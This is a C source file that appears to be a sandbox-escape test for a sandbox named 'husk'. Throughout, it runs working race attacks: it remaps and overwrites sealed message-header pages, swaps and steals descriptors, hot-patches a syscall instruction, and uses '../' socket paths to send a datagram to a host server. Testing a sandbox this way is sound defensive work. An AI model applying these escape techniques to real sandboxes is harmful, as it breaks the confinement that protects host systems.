/* build: sealed_race -lpthread
 *
 * Messages whose receiver asks for credentials are sent by the guest's own thread, with a header in pages that husk
 * maps and seals. Other threads try to get a header of theirs sent instead, with the name of a host's server: they put
 * memory of their own in the place of the pages, before and after these are mapped; take the descriptor that husk maps
 * them from; change the header and the descriptor that husk looked at; and exchange the instruction that should send.
 * Argument: the path of a datagram server.
 */
#include "step.h"
#include "sock_unix.h"
#include <pthread.h>
#include <sys/uio.h>

enum { PAGES = 64, PAGE = 4096, MESSAGES = 300, LEAST_MS = 300 };
static struct msghdr message, evil;
static struct iovec part = {"escaped", 7};
static struct sockaddr_un names[5];
static volatile int stop;
static int pair[2], datagram, number = 50;
static char *const target = (char *)0x567f08000000; /* HUSK_MESSAGES in native/loader/resident.h */
static unsigned char *code;

static void *swap(void *unused) {
    (void)unused;
    for (unsigned i = 0; !stop; i++) {
        message.msg_name = &names[i % 5], message.msg_namelen = sizeof names[0];
        dup2(datagram, number);
        message.msg_name = NULL, message.msg_namelen = 0;
        dup2(pair[0], number);
    }
    return NULL;
}

/* By the kernel: it says EFAULT where husk was quicker. */
static void put_headers(char *where) {
    for (int i = 0; i < PAGES; i++) {
        struct iovec from = {&evil, sizeof evil}, to = {where + i * PAGE, sizeof evil};
        process_vm_writev(getpid(), &from, 1, &to, 1, 0);
    }
}

static void *remap(void *own) {
    while (!stop) {
        mmap(target, PAGES * PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
        put_headers(target);
        mmap(target, PAGES * PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
        put_headers(target);
        mprotect(target, PAGES * PAGE, PROT_READ | PROT_WRITE);
        put_headers(target);
        mremap(own, PAGES * PAGE, PAGES * PAGE, MREMAP_MAYMOVE | MREMAP_FIXED | MREMAP_DONTUNMAP, target);
        put_headers(target);
        munmap(target, PAGES * PAGE);
    }
    return NULL;
}

static void *steal(void *unused) {
    (void)unused;
    for (int stolen = -1; !stop;) {
        for (int fd = 3; fd < 20 && stolen < 0; fd++)
            if (fcntl(fd, F_GET_SEALS) > 0)
                stolen = dup(fd);
        if (stolen >= 0) {
            /* Not sealed: husk must not take it for the mapping of its own. */
            mmap(target, PAGES * PAGE, PROT_READ, MAP_SHARED | MAP_FIXED_NOREPLACE, stolen, 0);
            (void)!pwrite(stolen, &evil, sizeof evil, 0);
            char *wide = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, stolen, 0);
            if (wide != MAP_FAILED)
                say("the pages can be written to");
            munmap(target, PAGES * PAGE);
        }
    }
    return NULL;
}

static void *exchange(void *unused) {
    (void)unused;
    while (!stop) {
        *(volatile uint16_t *)(code + 6) = 0x08eb; /* jmp: to the second call */
        *(volatile uint16_t *)(code + 6) = 0x050f; /* syscall */
    }
    return NULL;
}

/* sendmsg(rdi, rsi, rdx); where it jumps to sends `evil` instead. */
static void write_code(void) {
    static const unsigned char first[] = {0x90, 0xb8, 46, 0, 0, 0, 0x0f, 0x05, 0xc3},
                               second[] = {0x48, 0xbe, 0, 0, 0, 0, 0, 0, 0, 0, 0xbf, 0, 0, 0, 0, 0xb8, 46, 0, 0, 0,
                                           0x0f, 0x05, 0xc3};
    code = (void *)MUST(mmap(NULL, PAGE, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0));
    void *header = &evil;
    memcpy(code, first, sizeof first);
    memcpy(code + 16, second, sizeof second);
    memcpy(code + 18, &header, sizeof header);
    memcpy(code + 27, &datagram, sizeof datagram);
}

static void attack(const char *label, void *(*one)(void *), void *(*other)(void *)) {
    pid_t child = MUST(fork()); /* which has not got the pages yet */
    if (child) {
        int status;
        MUST(waitpid(child, &status, 0));
        say("%s: %d", label, status);
        return;
    }
    pthread_t threads[2];
    char drain[PAGE];
    char *own = mmap(NULL, PAGES * PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    long (*send)(int, struct msghdr *, int) = (void *)code;
    put_headers(own);
    pthread_create(&threads[0], NULL, one, own);
    pthread_create(&threads[1], NULL, other, own);
    struct timespec now, then;
    clock_gettime(CLOCK_MONOTONIC, &then);
    long ms = 0;
    for (int i = 0; i < MESSAGES || ms < LEAST_MS; i++) {
        if (one == exchange)
            send(number, &message, MSG_DONTWAIT | MSG_NOSIGNAL);
        else
            sendmsg(number, &message, MSG_DONTWAIT | MSG_NOSIGNAL);
        (void)!recv(pair[1], drain, sizeof drain, MSG_DONTWAIT);
        clock_gettime(CLOCK_MONOTONIC, &now);
        ms = (now.tv_sec - then.tv_sec) * 1000 + (now.tv_nsec - then.tv_nsec) / 1000000;
    }
    stop = 1;
    pthread_join(threads[0], NULL);
    pthread_join(threads[1], NULL);
    _exit(0);
}

int main(int argc, char **argv) {
    int one = 1;
    if (argc < 2)
        return 2;
    MUST(socketpair(AF_UNIX, SOCK_DGRAM, 0, pair));
    MUST(setsockopt(pair[1], SOL_SOCKET, SO_PASSCRED, &one, sizeof one));
    datagram = MUST(socket(AF_UNIX, SOCK_DGRAM, 0));
    for (int i = 0; i < 5; i++) {
        char path[200] = "";
        for (int up = 0; up < 3 * i; up++)
            strcat(path, "../");
        strcat(path, i ? argv[1] + 1 : argv[1]);
        name_of(&names[i], path);
    }
    evil = (struct msghdr){.msg_name = &names[3], .msg_namelen = sizeof names[0], .msg_iov = &part, .msg_iovlen = 1};
    message = (struct msghdr){.msg_iov = &part, .msg_iovlen = 1};
    MUST(dup2(pair[0], number));
    write_code();
    attack("header and descriptor", swap, swap);
    attack("other pages", remap, swap);
    attack("stolen pages", steal, remap);
    attack("instruction", exchange, swap);
    return 0;
}
